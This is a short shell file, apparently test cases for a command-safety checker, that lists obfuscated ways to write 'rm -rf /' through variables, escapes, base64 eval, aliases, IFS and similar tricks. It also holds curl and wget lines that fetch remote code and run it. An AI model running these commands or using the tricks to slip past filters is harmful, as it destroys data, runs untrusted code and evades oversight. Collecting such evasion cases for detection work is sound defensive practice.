# Ways to run what destroys or is fetched that try not to look like it; a line of dashes parts them.
x=rm
$x -rf /
# ----
r""m -rf /
# ----
$'\x72m' -rf /
# ----
a=r
a+=m
$a -rf /
# ----
{rm,-rf,/}
# ----
rm$IFS-rf$IFS/
# ----
eval "$(echo cm0gLXJmIC8= | base64 -d)"
# ----
$(printf 'r%s' m) -rf /
# ----
alias clean='rm -rf'
clean /
# ----
bash -c 'rm -rf /'
# ----
list=(rm -rf /)
"${list[@]}"
# ----
p=PATH_OF_RM; y=p
${!y} -rf /
# ----
long=xrmx
${long:1:2} -rf /
# ----
trap 'rm -rf /etc' EXIT
# ----
get="curl -s"
$get http://x | env A=1 sh
# ----
code=$(wget -qO- http://x)
eval "$code"
# ----
echo / | xargs rm -rf
# ----
find / -exec rm -rf {} +
